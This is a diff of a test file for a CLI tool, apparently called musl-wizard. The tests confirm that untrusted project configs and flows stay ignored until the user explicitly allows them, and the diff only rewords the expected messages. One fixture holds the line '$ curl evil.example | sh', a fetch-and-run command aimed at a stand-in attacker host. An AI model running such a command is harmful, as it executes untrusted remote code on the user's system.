@@ -92,7 +92,7 @@ describe("a project's file that steers", () => {
       teamFile: { state: 'ignored', path: 'musl-wizard.json' },
     });
     const lines =
-      /musl-wizard\.json of this folder is ignored: [^\n]*\n {2}rung: alpine\n[\s\S]*image: evil\.example[\s\S]*→ musl-wizard allow/;
+      /musl-wizard\.json in this folder is ignored: [^\n]*\n {2}rung: alpine\n[\s\S]*image: evil\.example[\s\S]*→ musl-wizard allow/;
     expect(written.err).toMatch(lines);
     const second = here();
     await recipe(second.context, ['alpine'], {});
@@ -109,7 +109,7 @@ describe("a project's file that steers", () => {
     tree();
     for (const word of ['theirs', '.musl-wizard/flows/theirs.yaml']) {
       const error = (await flow(here().context, ['run', word], { yes: true }).catch((e) => e)) as UserError;
-      expect(error.message).toMatch(/is ignored: you did not allow/);
+      expect(error.message).toMatch(/is ignored: you have not allowed/);
       expect(error.evidence).toContain('tries alpine with {"image":"evil.example/alpine:2"}');
       expect(error.evidence).toContain('$ curl evil.example | sh');
       expect(error.nextSteps.join()).toContain('musl-wizard allow');
@@ -140,6 +140,6 @@ describe("a project's file that steers", () => {
   it('allows nothing where there is nothing', async () => {
     const { context, written } = here();
     expect(await allow(context, [], {})).toBe(0);
-    expect(written.out).toMatch(/^There is nothing to allow/);
+    expect(written.out).toMatch(/^Nothing to allow/);
   });
 });
